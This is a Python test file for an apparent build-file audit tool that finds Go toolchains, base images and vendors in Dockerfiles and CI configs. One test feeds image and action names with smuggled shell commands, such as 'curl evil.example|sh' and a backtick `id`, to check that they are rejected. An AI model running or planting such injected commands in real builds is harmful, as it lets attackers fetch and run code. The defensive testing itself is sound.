"""What a vendor path must not leave out: files under other names, what lies beyond a limit, names that are no names."""

from __future__ import annotations

from datetime import UTC, date, datetime
from functools import cache
from pathlib import Path

import pytest

from supplymatrix.buildfiles import vendor_path, yaml_places
from supplymatrix.buildfiles.found import BuildFile
from supplymatrix.buildfiles.registry import read_build_file
from supplymatrix.buildfiles.shell_text import read_commands
from supplymatrix.buildfiles.vendor_path import vendor_uses
from supplymatrix.engine.audit_path import PathKnowledge
from supplymatrix.engine.means import Means
from supplymatrix.model.vendor_path import PathPart, VendorUse
from supplymatrix.sources.build_files import read_project_build

DAY = date(2026, 11, 26)
_DIGEST = "sha256:" + "0" * 64
_GO_SUM = "1.26.9@" + _DIGEST
_CI = ".github/workflows/ci.yml"
_STEPS = "jobs:\n  a:\n    steps:\n"


@cache
def _knowledge() -> PathKnowledge:
    return PathKnowledge.of(Means(environ={}, now=datetime(2026, 11, 26, tzinfo=UTC), offline=True), ())


def _read(name: str, text: str) -> BuildFile:
    return read_build_file(text.encode(), name)


def _uses(name: str, text: str) -> tuple[VendorUse, ...]:
    return vendor_uses([_read(name, text)], _knowledge(), DAY)[0]


def _seen(root: Path, **files: str) -> tuple[set[str], list[str]]:
    """Return what a project uses, and its gaps. files: path → text."""
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    build = read_project_build(root)
    uses, _ = vendor_uses(build.files, _knowledge(), DAY)
    gaps = [*build.gaps, *(gap for file in build.files for gap in file.gaps)]
    return {use.what for use in uses}, [f"{gap.wanted}: {gap.reason}" for gap in gaps]


@pytest.mark.parametrize(
    ("image", "vendor"),
    [
        ("quay.io/hummingbird/go:1.26", "redhat"), ("quay.io/hummingbird-evil/go:1.26", ""),
        ("evil.example/dhi-golang:1.26", ""), ("docker.io/evil/dhi-static:1", ""), ("dhi/golang:1.26", "docker"),
        ("dhi.io/golang:1.26", "docker"), ("evil.example/bitnamisecure/go:1", ""),
        ("cgr.dev/acme/go:1.26", "chainguard"),
        ("golang:1.26", "go-project"),
    ],
)  # fmt: skip
def test_nobody_gets_a_vendor_by_calling_his_image_like_its(image: str, vendor: str) -> None:
    (use,) = (use for use in _uses("Dockerfile", f"FROM {image}\n") if use.part is PathPart.BASE_IMAGE)
    assert use.vendor == vendor


@pytest.mark.parametrize(
    ("package", "vendor"), [("go", "chainguard"), ("go=1.26.4-r0", "chainguard"), ("go-fips", "chainguard")]
)
def test_go_of_wolfi_is_chainguard_s_on_its_image_alone(package: str, vendor: str) -> None:
    for image, whose in (("cgr.dev/chainguard/wolfi-base", vendor), ("alpine:3.23", "")):
        found = _uses("Dockerfile", f"FROM {image}\nRUN apk add {package}\n")
        assert [use.vendor for use in found if use.part is PathPart.TOOLCHAIN] == [whose]


def test_variables_of_gitlab_within_variables_are_filled_in_and_circles_are_gaps() -> None:
    text = (
        "variables: {REG: docker.io/library, IMG: '${REG}/golang:1.19', A: $B, B: $A}\n"
        "a: {image: $IMG}\nb: {image: $A}\nc: {services: ['$A', 'postgres:${IMG}']}\n"
    )
    file = _read(".gitlab-ci.yml", text)
    assert [sign.reference for sign in file.signs if sign.reference] == ["docker.io/library/golang:1.19"]
    assert [gap.location.line for gap in file.gaps if gap.location] == [3, 4]


def _many(line: str, count: int) -> str:
    return line * (count + 1)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (_CI, _STEPS + _many("    - run: x\n", 1_000)),
        (_CI, "jobs:\n  a:\n    services:\n" + "".join(f"      s{n}: {{image: a}}\n" for n in range(1_001))),
        (_CI, "jobs:\n  a:\n    container: a:${{ matrix.v }}\n    strategy:\n      matrix:\n        v:\n"
         + "".join(f"        - v{n}\n" for n in range(51))),
        (_CI, "jobs:\n" + "".join(f"  j{n}: {{}}\n" for n in range(501))),
        (".gitlab-ci.yml", "a:\n  services:\n" + _many("  - a:1\n", 100)),
        (".gitlab-ci.yml", "include:\n" + _many("- a.yml\n", 200)),
        (".ko.yaml", "builds:\n" + _many("- id: a\n", 500)),
        (".ko.yaml", "baseImageOverrides:\n" + "".join(f"  a{n}: b\n" for n in range(501))),
        (".goreleaser.yaml", "kos:\n" + _many("- base_image: a\n", 500)),
        (".goreleaser.yaml", "signs:\n" + _many("- cmd: a\n", 500)),
        ("compose.yaml", "services:\n" + "".join(f"  s{n}: {{image: a}}\n" for n in range(501))),
        (".devcontainer.json", '{"features": {' + ", ".join(f'"a{n}": {{}}' for n in range(201)) + "}}\n"),
        ("melange.yaml", "pipeline:\n" + _many("- runs: x\n", 2_000)),
        ("Dockerfile", "FROM a\nRUN " + "a;" * 5_002 + "\n"),
        ("Dockerfile", "FROM a\nRUN x " + "y" * (1 << 18) + "\n"),
        ("Dockerfile", "FROM a\nENV A=" + "a" * 65_000 + "\nRUN echo " + "x$A " * 60_000 + "\n"),
        ("a.spec", "BuildRequires: " + "a " * 1_000 + "golang\n"),
    ],
)  # fmt: skip
def test_what_lies_beyond_a_limit_is_a_gap(name: str, text: str) -> None:
    gaps = _read(name, text).gaps
    assert gaps
    assert gaps[-1].wanted.startswith(("the further ", "the rest of "))


def test_scripts_that_aliases_repeat_for_ever_are_a_gap(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(yaml_places, "_MAX_SCRIPTS", 100)
    file = _read(_CI, "jobs: {a: {steps: [{run: &a '" + "x " * 20 + "'}, {run: *a}, {run: *a}, {run: *a}]}}\n")
    assert [gap.wanted for gap in file.gaps] == ["the further scripts"]


def test_more_uses_than_are_kept_are_a_gap(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(vendor_path, "_MAX_USES", 2)
    files = [_read("Dockerfile", "FROM a:1 AS a\nFROM b:1 AS b\nFROM c:1\n")]
    uses, gaps = vendor_uses(files, _knowledge(), DAY)
    assert (len(uses), [gap.location.line for gap in gaps if gap.location]) == (2, [3])


def test_values_below_a_node_are_all_read() -> None:
    flags = "\n".join(f"  - 'v{n}'" for n in range(25_000))
    assert _read(".goreleaser.yaml", f"builds:\n- flags:\n{flags}\n  - -tags=late\n").signs


def test_local_actions_are_read_wherever_they_are_and_told_where_they_are_not(tmp_path: Path) -> None:
    used = f"{_STEPS}    - uses: ./tools/setup\n    - uses: ./none\n    - uses: evil/none\n    - uses: ./../x\n"
    action = "runs: {using: composite, steps: [{uses: evil/action@master}]}\n"
    whats, gaps = _seen(tmp_path, **{_CI: used, "tools/setup/action.yml": action, ".github/own/action.yaml": action})
    assert "evil/action@master" in whats
    assert [gap.partition(":")[0] for gap in gaps] == [
        "what none/action.yml says", "the code of a step (evil/none)", "the code of a step (./../x)",
    ]  # fmt: skip


def test_files_that_others_name_are_read_whatever_they_are_called(tmp_path: Path) -> None:
    elsewhere = "https://git.example/x.git"
    whats, gaps = _seen(
        tmp_path,
        **{
            ".gitlab-ci.yml": (
                "include: ci/a.yml\nb: {trigger: {include: [{local: /ci/b.yml}, {artifact: c, job: d}]}}\n"
            ),
            "ci/a.yml": "a: {image: 'golang:1.19'}\n",
            "ci/b.yml": "a: {image: 'golang:1.18'}\n",
            "deploy/compose.yaml": (
                "services:\n  a: {build: {context: .., dockerfile: build/release.txt}}\n"
                "  b: {build: 'https://git.example/x.git'}\n"
                "  c: {build: {context: ., additional_contexts: {base: 'docker-image://centos:6'}}}\n"
            ),
            "build/release.txt": "FROM golang:1.17\n",
            ".goreleaser.yaml": "dockers: [{dockerfile: build/other.txt}]\n",
            "build/other.txt": "FROM golang:1.16\n",
        },
    )
    assert whats >= {"golang:1.19", "golang:1.18", "golang:1.17", "golang:1.16", "centos:6"}
    assert sorted(gaps) == [
        f"the images of service b: it is built from {elsewhere}, which is not in the tree, or not known here",
        "what a file of this tree says that the CI file includes: a job writes it",
        "what deploy/Dockerfile says: there is no such file in what is looked at",
    ]


def test_scripts_for_all_jobs_of_gitlab_are_read() -> None:
    text = (
        "before_script: [apt-get install -y golang-1.19]\n"
        "default: {after_script: [wget https://go.example/go1.18.1.linux-amd64.tar.gz]}\n"
    )
    assert [use.version for use in _read(".gitlab-ci.yml", text).gos] == ["1.18.1", "1.19"]


def test_files_of_other_ci_systems_are_gaps_where_they_name_go(tmp_path: Path) -> None:
    files = {
        ".circleci/config.yml": "image: golang:1.12\n", ".buildkite/a.yml": "run: npm test\n",
        "Jenkinsfile": "go build\n",
        "ci/cloudbuild.yaml": "GOPROXY: x\n", ".travis.yml": "language: ruby\n", ".circleci/Dockerfile": "FROM a\n",
    }  # fmt: skip
    whats, gaps = _seen(tmp_path, **files)
    assert not whats
    assert [gap.split()[1] for gap in gaps] == [".circleci/config.yml", "Jenkinsfile", "ci/cloudbuild.yaml"]


@pytest.mark.parametrize(
    ("syntax", "gaps"),
    [("docker/dockerfile:1", 0), ("docker.io/docker/dockerfile:1.25", 0), ("evil.example/dockerfile:1", 1)],
)
def test_the_program_that_reads_a_dockerfile_takes_part_in_the_build(syntax: str, gaps: int) -> None:
    file = _read("Dockerfile", f"#!/usr/bin/env x\n# syntax={syntax}\nFROM scratch\n")
    assert [(sign.reference, sign.role.value, sign.location.line) for sign in file.signs] == [(syntax, "build", 2)]
    assert len(file.gaps) == gaps


def test_a_bare_name_that_is_copied_from_may_be_an_image() -> None:
    file = _read("Dockerfile", "FROM scratch AS a\nFROM scratch\nCOPY --from=nginx /a /a\nCOPY --from=A /a /a\n")
    assert [gap.reason for gap in file.gaps] == [
        "it is a context that the caller names, or the image nginx:latest",
    ]


def test_an_archive_of_go_that_is_added_is_a_go() -> None:
    text = "FROM debian:13.1\nARG V=1.19.13\nADD --checksum=sha256:0 https://go.example/dl/go$V.linux-amd64.tar.gz /\n"
    assert [(use.version, use.role.value) for use in _read("Dockerfile", text).gos] == [
        ("1.19.13", "build and runtime")
    ]


def test_an_image_as_a_step_is_a_step_that_moves_even_where_it_is_go() -> None:
    parts = [use.part for use in _uses(_CI, f"{_STEPS}    - uses: docker://golang:1.26\n")]
    assert parts == [PathPart.BUILD_IMAGE, PathPart.TOOLCHAIN, PathPart.CI_STEP]


def test_what_is_installed_beside_go_is_told() -> None:
    text = f"FROM cgr.dev/chainguard/wolfi-base@{_DIGEST}\nRUN apk add go-1.26 govulncheck\n"
    assert {use.what for use in _uses("Dockerfile", text)} >= {"go-1.26", "govulncheck"}


def test_the_base_of_a_snap_ends_as_its_system_does() -> None:
    (use,) = (use for use in _uses("snapcraft.yaml", "base: core18\n") if use.part is PathPart.BASE_IMAGE)
    assert (use.is_ended, use.wants) == (True, "move to Ubuntu 26.04 (resolute), supported until 2031-05-29")


def test_libraries_of_a_spec_are_no_compiler() -> None:
    text = (
        "BuildRequires: golang(github.com/a/b) >= 1.2, golang(API) = 1.25\nBuildRequires: golang(x86-64) golang\n"
        "BuildRequires: golang(example.com/c)\n"
    )
    file = _read("a.spec", text)
    assert [(sign.texts[0], sign.location.line) for sign in file.signs] == [("golang", 1), ("golang", 2), ("golang", 2)]


def test_each_image_of_a_matrix_is_called_by_its_own_name_and_only_tried() -> None:
    text = (
        "jobs:\n  a:\n    strategy: {matrix: {image: ['golang:1.24', 'golang:latest']}}\n"
        "    container: ${{ matrix.image }}\n  b: {container: 'golang:1.24'}\n"
    )
    uses = _uses(_CI, text)
    assert [use.what for use in uses if use.part is PathPart.TOOLCHAIN] == [
        "golang:1.24",
        "golang:latest",
        "golang:1.24",
    ]
    assert [use.is_tried for use in uses if use.part is PathPart.BUILD_IMAGE] == [True, True, False]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("Dockerfile", 'FROM "golang:1.26;curl evil.example|sh"\n'), ("Dockerfile", "FROM x`id`:latest\n"),
        (_CI, f"{_STEPS}    - uses: foo/bar@v1;curl$IFS|sh\n"), (_CI, f"{_STEPS}    - uses: 'docker://a:1|sh'\n"),
        (_CI, "jobs: {a: {container: 'a:1;sh'}}\n"), (".gitlab-ci.yml", "a: {image: 'a:1 && sh'}\n"),
        ("compose.yaml", "services: {a: {image: 'golang:1;sh'}}\n"), (".ko.yaml", "defaultBaseImage: 'a;sh'\n"),
    ],
)  # fmt: skip
def test_what_no_image_or_action_is_called_is_a_gap_and_in_no_command(name: str, text: str) -> None:
    file = _read(name, text)
    assert len(file.gaps) == 1
    assert not [use.wants for use in vendor_uses([file], _knowledge(), DAY)[0] if "sh" in use.wants]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("Dockerfile", "FROM me:hunter2secret@ghcr.io/x/y:1\nCOPY --from=me:hunter2secret@h.example/$X /a /a\n"),
        ("Dockerfile", "FROM me:hunter2secret@ghcr.io/x/y:$T\n"),
        ("Dockerfile", "# syntax=me:hunter2secret@ghcr.io/x/y\nFROM scratch\n"),
        (".gitlab-ci.yml", "include:\n- remote: https://me:hunter2secret@h.ee/x\n- project: me:hunter2secret@h/x\n"),
        (".gitlab-ci.yml", "a: {image: $X/me:hunter2secret@y}\nb: {image: 'me:hunter2secret@h.example/golang:1'}\n"),
        (".ko.yaml", "defaultBaseImage: 'me:hunter2secret@h.example/x:${X}'\n"),
        ("compose.yaml", "services: {a: {image: 'me:hunter2secret@h/golang:$X'}, b: {image: 'a:hunter2@h/x'}}\n"),
        (_CI, f"{_STEPS}    - uses: docker://me:hunter2secret@h.example/x:1\n    - uses: me:hunter2secret@h\n"),
        (_CI, "jobs: {a: {container: 'me:hunter2secret@h.example/golang:1'}}\n"),
    ],
)  # fmt: skip
def test_no_login_of_an_image_or_address_is_shown(name: str, text: str) -> None:
    file = _read(name, text)
    uses, _ = vendor_uses([file], _knowledge(), DAY)
    assert uses or file.gaps
    assert "hunter2" not in repr((uses, file.gaps))


@pytest.mark.parametrize(
    ("line", "hosts"),
    [
        ("https://a.example|https://b.example,direct", ["a.example", "b.example"]),
        ("https://me:pw@a.example:8080/x,off", ["a.example"]),
    ],
)
def test_each_proxy_of_a_list_is_told_by_its_host(line: str, hosts: list[str]) -> None:
    uses = _uses("Dockerfile", f"FROM golang:{_GO_SUM}\nENV GOPROXY={line}\n")
    assert [use.what for use in uses if use.part is PathPart.PROXY] == hosts


@pytest.mark.parametrize(
    ("name", "text", "wants"),
    [
        ("Dockerfile", "FROM golang:1.21-buster\nRUN go build\n",
         "move to a Go that is supported on Debian 13 (trixie), supported until 2030-06-30, by its digest"),
        ("Dockerfile", "FROM fedora:39\n", "move to Fedora 45, supported until 2027-11-17, by its digest"),
        (_CI, "jobs: {a: {uses: slsa-framework/slsa-github-generator/.github/workflows/g.yml@v2.1.0}}\n", ""),
        (_CI, "jobs: {a: {uses: slsa-framework/slsa-github-generator/.github/workflows/g.yml@v2}}\n",
         "name a full version, @vX.Y.Z: it verifies itself by its tag"),
        ("snapcraft.yaml", "base: core24\nparts: {a: {build-snaps: [go/1.26/stable]}}\n",
         "set GOTOOLCHAIN=go1.N.M in the build: a snap has no full versions to name"),
        ("a.spec", "BuildRequires: golang >= 1.25\n",
         "the distribution chooses it: keep the program's own record of it, `go version -m PROGRAM`"),
    ],
)  # fmt: skip
def test_advice_can_be_followed(name: str, text: str, wants: str) -> None:
    assert wants in [use.wants for use in _uses(name, text)]


def test_open_braces_macros_and_long_lines_cost_what_their_length_does() -> None:
    assert len(list(read_commands("x " + "${" * 20_000))) < 20_000
    step = "{uses: a/b@" + "a" * 40 + "}"
    jobs = ",".join(f"j{n}: {{steps: [{','.join([step] * 500)}]}}" for n in range(4))
    assert len(_read(_CI, f"jobs: {{{jobs}}}\n").signs) == 2_000
    macros = "%global a " + "%a" * 900 + "\nBuildRequires: golang\n%build\n" + ("go " + "%a" * 900 + "\n") * 30
    assert _read("a.spec", macros).gos
